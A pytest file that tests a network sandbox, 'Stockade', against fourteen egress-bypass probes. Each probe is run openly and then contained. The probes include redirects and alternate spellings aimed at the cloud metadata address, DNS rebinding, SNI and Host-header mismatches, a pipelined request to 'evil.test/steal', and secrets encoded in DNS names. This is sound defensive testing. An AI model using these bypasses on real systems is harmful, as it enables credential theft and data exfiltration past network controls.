"""The probes that were tried on the peers (section C, numbers 1 to 14), tried on Stockade the same way.

Arrivals are counted at the world's servers. Every probe runs first in the open, where
it must arrive, so that a pass cannot come from a probe that does not work.
"""

from __future__ import annotations

import os
import socket
import tempfile
import threading
from collections.abc import Callable, Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
from attack_steps import ENTRIES, Tried, allow, get, get_tls, ok

from stockade.prove.world_client import World

pytestmark = [pytest.mark.kernel, pytest.mark.needs("world", "userns", "bwrap", "room")]

APP, EVIL, METADATA = "93.184.216.34", "93.184.216.66", "169.254.169.254"
APP_ONLY = allow("app.test")

Do = Callable[..., Tried]


# --- 1 and 2: what is allowed works, with and without proxy settings --------------------------


@pytest.mark.parametrize("entry", ENTRIES)
def test_probe_1_allowed_http_and_https_arrive(contained: Do, world: World, entry: str) -> None:
    tried = contained(get("app.test", entry=entry), get_tls("app.test", entry=entry), policy=APP_ONLY)
    assert [ok(answer) for answer in tried.answers] == [True, True]
    assert sorted(arrival["port"] for arrival in world.arrivals(address=APP)) == [80, 443]
    assert {attempt["verdict"] for attempt in tried.run.attempts()} == {"allow"}
    assert {attempt["entry"] for attempt in tried.run.attempts()} == {entry}


def test_probe_2_client_that_knows_no_proxy_reaches_an_allowed_name_and_no_raw_address(
    contained: Do, world: World
) -> None:
    tried = contained(get("app.test"), get(APP), policy=APP_ONLY)
    assert ok(tried[0])
    assert not ok(tried[1])
    assert len(world.arrivals()) == 1
    assert [attempt["reason"] for attempt in tried.run.denials()] == ["literal-address"]


# --- 3: not listed --------------------------------------------------------------------------


@pytest.mark.parametrize("entry", ENTRIES)
@pytest.mark.parametrize("step", [get, get_tls], ids=["http", "https"])
def test_probe_3_unlisted_name_does_not_arrive(
    in_the_open: Do, contained: Do, world: World, entry: str, step: Callable[..., dict[str, Any]]
) -> None:
    in_the_open(step("evil.test"))
    assert len(world.arrivals(address=EVIL, protocol="tcp")) == 1
    world.reset()
    good, bad = step("app.test", entry=entry), step("evil.test", entry=entry)
    tried = contained(good, bad, good, policy=APP_ONLY)
    assert [ok(answer) for answer in tried.answers] == [True, False, True]
    assert world.arrivals(address=EVIL) == []
    assert world.dns_questions("evil.test") == []
    [denial] = tried.run.denials()
    assert (denial["reason"], denial["name"], denial["entry"]) == ("not-listed", "evil.test", entry)
    assert tried[1]["ms"] < 1000


@pytest.mark.parametrize("entry", ENTRIES)
def test_probe_3_unlisted_address_does_not_arrive(
    in_the_open: Do, contained: Do, world: World, entry: str
) -> None:
    in_the_open(get(EVIL))
    assert len(world.arrivals(address=EVIL)) == 1
    world.reset()
    tried = contained(get(EVIL, entry=entry), get_tls(EVIL, entry=entry), policy=APP_ONLY)
    assert not any(ok(answer) for answer in tried.answers)
    assert world.packets() == []
    assert {denial["reason"] for denial in tried.run.denials()} == {"literal-address"}


# --- 4 and 5: redirects and spellings of the metadata address -----------------------------------


@pytest.mark.needs("node")
@pytest.mark.parametrize("proxy", [None, "http://198.18.0.1:3128", "socks5h://198.18.0.1:1080"])
def test_probe_4_redirect_to_metadata_stops_at_the_second_hop(
    stockade: Callable[..., Any], world: World, proxy: str | None
) -> None:
    chosen = [] if proxy is None else ["--proxy", proxy]
    url = f"http://app.test/redirect?to=http://{METADATA}/latest/meta-data/"
    run = stockade(["curl", "-sS", "-L", "-m", "5", "-w", "%{http_code}", *chosen, url], APP_ONLY)
    assert "ami-id" not in run.out
    assert len(world.arrivals(address=APP)) == 1
    assert world.arrivals(address=METADATA) == []
    assert world.packets(address=METADATA) == []
    [denial] = run.denials()
    assert (denial["risk"], denial["class"]) == ("metadata-credentials", "metadata")


def test_probe_4_control_redirect_reaches_metadata_in_the_open(world: World) -> None:
    import subprocess

    url = f"http://app.test/redirect?to=http://{METADATA}/latest/meta-data/"
    assert "ami-id" in subprocess.run(["curl", "-sSL", "-m", "5", url], capture_output=True, text=True).stdout
    assert len(world.arrivals(address=METADATA)) == 1


SPELLINGS = {
    "dotted": "169.254.169.254",
    "decimal": "2852039166",
    "hex": "0xa9fea9fe",
    "octal": "0251.0376.0251.0376",
    "short": "169.254.43518",
}


@pytest.mark.parametrize("spelling", SPELLINGS.values(), ids=SPELLINGS)
@pytest.mark.parametrize("entry", ENTRIES)
def test_probe_5_no_spelling_of_the_metadata_address_arrives(
    in_the_open: Do, contained: Do, world: World, entry: str, spelling: str
) -> None:
    in_the_open(get(spelling, path="/latest/meta-data/"))
    assert len(world.arrivals(address=METADATA)) == 1  # the C library reads them all
    world.reset()
    tried = contained(get(spelling, path="/latest/meta-data/", entry=entry), policy=allow("*.test"))
    assert not ok(tried[0])
    assert world.packets() == []
    denials = tried.run.denials()
    assert denials
    assert {denial["risk"] for denial in denials} == {"metadata-credentials"}


# --- 6: IPv4 inside IPv6 ---------------------------------------------------------------------


@pytest.mark.parametrize("entry", ENTRIES)
def test_probe_6_mapped_metadata_address_does_not_arrive(
    in_the_open: Do, contained: Do, world: World, entry: str
) -> None:
    mapped = "::ffff:169.254.169.254"
    in_the_open(get(mapped))
    assert len(world.arrivals(address=METADATA)) == 1
    world.reset()
    tried = contained(
        get(mapped, entry=entry), get(mapped, host_header="app.test", entry=entry), policy=APP_ONLY
    )
    assert not any(ok(answer) for answer in tried.answers)
    assert world.packets() == []
    assert "metadata-credentials" in {denial["risk"] for denial in tried.run.denials()}


# --- 7: allowed names with answers that are not ---------------------------------------------


@pytest.mark.parametrize("entry", ENTRIES)
@pytest.mark.parametrize(
    ("name", "address", "reason"),
    [
        ("rebind.test", METADATA, "metadata-address"),
        ("map.test", METADATA, "metadata-address"),
        ("priv.test", "10.20.0.5", "private-address"),
        ("loop.test", "127.0.0.1", "loopback-address"),
    ],
)
def test_probe_7_allowed_name_with_a_forbidden_answer_is_not_dialled(
    in_the_open: Do, contained: Do, world: World, entry: str, name: str, address: str, reason: str
) -> None:
    if address != "127.0.0.1":  # loopback has its own control, probe 13
        in_the_open(get(name))
        assert len(world.arrivals(address=address)) == 1
        world.reset()
    tried = contained(get(name, entry=entry), get("app.test", entry=entry), policy=allow(name, "app.test"))
    assert [ok(answer) for answer in tried.answers] == [False, True]
    assert world.packets(address=address) == []
    [denial] = tried.run.denials()
    assert (denial["reason"], denial["name"]) == (reason, name)


@pytest.mark.parametrize("entry", ENTRIES)
def test_probe_7_alternating_answers_never_reach_metadata(
    in_the_open: Do, contained: Do, world: World, entry: str
) -> None:
    in_the_open(*[get("flip.test")] * 2)
    assert len(world.arrivals(address=METADATA)) == 1
    world.reset()
    tried = contained(*[get("flip.test", entry=entry)] * 6, policy=allow("flip.test"))
    assert world.packets(address=METADATA) == []
    assert len(world.arrivals(address=APP)) == sum(map(ok, tried.answers)) > 0


# --- 8: SNI ----------------------------------------------------------------------------------


@pytest.mark.parametrize("entry", ENTRIES)
def test_probe_8_server_name_of_another_host_does_not_arrive(
    in_the_open: Do, contained: Do, world: World, entry: str
) -> None:
    lie = {"host": "app.test", "sni": "evil.test"}
    in_the_open(get_tls(**lie))
    assert [arrival["sni"] for arrival in world.arrivals(address=APP)] == ["evil.test"]
    world.reset()
    tried = contained(get_tls("app.test", entry=entry), get_tls(**lie, entry=entry), policy=APP_ONLY)
    assert [ok(answer) for answer in tried.answers] == [True, False]
    assert [arrival["sni"] for arrival in world.arrivals(protocol="tcp")] == ["app.test"]
    assert [denial["reason"] for denial in tried.run.denials()] == ["name-mismatch"]


@pytest.mark.parametrize("entry", ENTRIES)
def test_probe_8_hello_without_a_server_name_does_not_arrive(contained: Do, world: World, entry: str) -> None:
    tried = contained(get_tls("app.test", sni="", entry=entry), policy=APP_ONLY)
    assert not ok(tried[0])
    assert world.packets() == []
    assert [denial["reason"] for denial in tried.run.denials()] == ["sni-missing"]


@pytest.mark.parametrize("entry", ENTRIES)
def test_probe_8b_inner_host_under_an_honest_server_name_is_a_documented_limit(
    contained: Do, world: World, entry: str
) -> None:
    """Without interception the inner Host cannot be seen; it still goes to app.test's address."""
    contained(get_tls("app.test", host_header="evil.test", entry=entry), policy=APP_ONLY)
    assert [arrival["address"] for arrival in world.arrivals(protocol="tcp")] == [APP]


# --- 9: Host against request line --------------------------------------------------------------


def test_probe_9_absolute_form_and_host_must_agree(contained: Do, world: World) -> None:
    tried = contained(
        get("app.test", entry="http-proxy", host_header="evil.test"),
        get("evil.test", entry="http-proxy", host_header="app.test"),
        policy=APP_ONLY,
    )
    assert not any(ok(answer) for answer in tried.answers)
    assert world.packets() == []
    assert tried.run.denials()[0]["reason"] == "name-mismatch"
    assert len(tried.run.denials()) == 2


@pytest.mark.parametrize("entry", ["transparent", "socks5"])
def test_probe_9_host_header_of_another_site_does_not_arrive(
    in_the_open: Do, contained: Do, world: World, entry: str
) -> None:
    lie = get("app.test", host_header="evil.test")
    in_the_open(lie)
    assert [request["host"] for request in world.requests()] == ["evil.test"]
    world.reset()
    tried = contained(lie | {"entry": entry}, get("app.test", entry=entry), policy=APP_ONLY)
    assert [ok(answer) for answer in tried.answers] == [False, True]
    assert [request["host"] for request in world.requests()] == ["app.test"]
    assert [denial["reason"] for denial in tried.run.denials()] == ["name-mismatch"]


def test_probe_9c_inner_host_in_a_connect_to_port_80_does_not_arrive(contained: Do, world: World) -> None:
    lie = get("app.test", entry="http-proxy", host_header="evil.test", target="/", tunnel=True)
    tried = contained(lie, policy=APP_ONLY)
    assert world.requests() == []
    assert [denial["reason"] for denial in tried.run.denials()] == ["name-mismatch"]


# --- 10: the second request on one connection ----------------------------------------------


@pytest.mark.parametrize("pipelined", [False, True], ids=["kept-alive", "one-write"])
def test_probe_10_second_request_to_another_host_on_one_proxy_connection_is_judged(
    contained: Do, world: World, pipelined: bool
) -> None:
    first = "GET http://app.test/ HTTP/1.1\r\nHost: app.test\r\n\r\n"
    second = "GET http://evil.test/steal HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    step = get("app.test", entry="http-proxy") | {"send": [first + second] if pipelined else [first, second]}
    tried = contained(step, policy=APP_ONLY)
    assert [request["host"] for request in world.requests()] == ["app.test"]
    assert "403" in tried[0]["reply"]
    assert [denial["name"] for denial in tried.run.denials()] == ["evil.test"]


def test_probe_10_second_host_on_a_transparent_connection_is_judged(
    in_the_open: Do, contained: Do, world: World
) -> None:
    sends = [f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n" for name in ("app.test", "evil.test")]
    step = get("app.test") | {"send": sends}
    in_the_open(step)
    assert [request["host"] for request in world.requests()] == ["app.test", "evil.test"]
    world.reset()
    tried = contained(step, policy=APP_ONLY)
    assert [request["host"] for request in world.requests()] == ["app.test"]
    assert [denial["reason"] for denial in tried.run.denials()] == ["name-mismatch"]


# --- 11 and 12: UDP and names ---------------------------------------------------------------


def test_probe_11_udp_does_not_arrive_and_is_on_record(in_the_open: Do, contained: Do, world: World) -> None:
    steps = [{"do": "udp", "host": host, "port": port} for host, port in
             (("8.8.8.8", 443), ("8.8.8.8", 9999), (APP, 443), ("2606:2800:220:1::34", 443))]  # fmt: skip
    in_the_open(*steps)
    assert len(world.packets(protocol="udp")) == 4
    world.reset()
    tried = contained(*steps, policy=APP_ONLY)
    assert {answer.get("error") for answer in tried.answers} == {"ConnectionRefusedError"}
    assert world.packets() == []
    assert len(tried.run.denials(entry="udp")) == 4


def test_probe_12_secret_in_a_name_reaches_no_resolver(in_the_open: Do, contained: Do, world: World) -> None:
    steps = [
        {"do": "resolve", "host": "c2VjcmV0.evil.test"},
        {"do": "dns", "host": "9.9.9.9", "name": "raw.evil.test"},
        {"do": "dns", "host": "9.9.9.9", "name": "tcp.evil.test", "tcp": True},
        {"do": "dns", "host": "9.9.9.9", "name": "txt.evil.test", "type": 16},
        {"do": "dns", "host": "8.8.8.8", "name": "direct.evil.test", "patience": 0.3},
        get("host.evil.test", patience=0.5),
    ]
    in_the_open(*steps)
    asked = {question["name"] for question in world.dns_questions()}
    assert {"c2vjcmv0.evil.test", "raw.evil.test", "tcp.evil.test", "txt.evil.test"} <= asked
    world.reset()
    tried = contained(*steps, policy=APP_ONLY)
    assert world.dns_questions() == []
    assert world.packets() == []
    assert {record["name"] for record in tried.run.attempts(entry="dns")} >= asked


# --- 13 and 14: the host's own services ------------------------------------------------------


@pytest.fixture
def loopback_service() -> Iterator[list[str]]:
    """An HTTP service on 127.0.0.1:8899 of *host*; yields the paths that reached it."""
    reached: list[str] = []

    class Service(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            reached.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 8899), Service)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    yield reached
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("entry", ENTRIES)
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "loop.test"])
def test_probe_13_host_loopback_service_is_not_reached(
    in_the_open: Do, contained: Do, loopback_service: list[str], world: World, entry: str, host: str
) -> None:
    policy = allow("loop.test", "app.test", ports="[80, 443]") + (
        "  - allow: loop.test\n    ports: [8899]\n    protocol: http\n"
    )
    in_the_open(get(host, 8899, "/open"))
    assert loopback_service == ["/open"]
    tried = contained(get(host, 8899, "/contained", entry=entry), policy=policy)
    assert loopback_service == ["/open"]
    assert not ok(tried[0])
    stays_in_the_room = entry == "transparent" and host != "loop.test"
    assert len(tried.run.denials()) == (not stays_in_the_room)


@pytest.fixture
def host_socket(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[str]:
    """Where the host listens: in the machine's /tmp, elsewhere, or in the abstract space."""
    if request.param == "abstract":
        yield f"@stockade-probe-{os.getpid()}"
    elif request.param == "elsewhere":
        yield f"{tmp_path}/x.sock"
    else:
        with tempfile.TemporaryDirectory(dir="/tmp") as folder:
            yield f"{folder}/x.sock"


@pytest.mark.parametrize("host_socket", ["tmp", "elsewhere", "abstract"], indirect=True)
def test_probe_14_host_unix_sockets_are_not_reached(
    in_the_open: Do, contained: Do, world: World, host_socket: str
) -> None:
    with closing(socket.socket(socket.AF_UNIX)) as listener:
        listener.bind(host_socket.replace("@", "\0"))
        listener.listen()

        def serve() -> None:
            with closing(listener.accept()[0]) as connection:
                connection.recv(100)
                connection.sendall(b"host says hello")

        threading.Thread(target=serve, daemon=True).start()
        step = {"do": "unix", "path": host_socket}
        assert in_the_open(step)[0]["reply"] == "host says hello"
        tried = contained(step, policy=APP_ONLY)
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert "reply" not in tried[0]
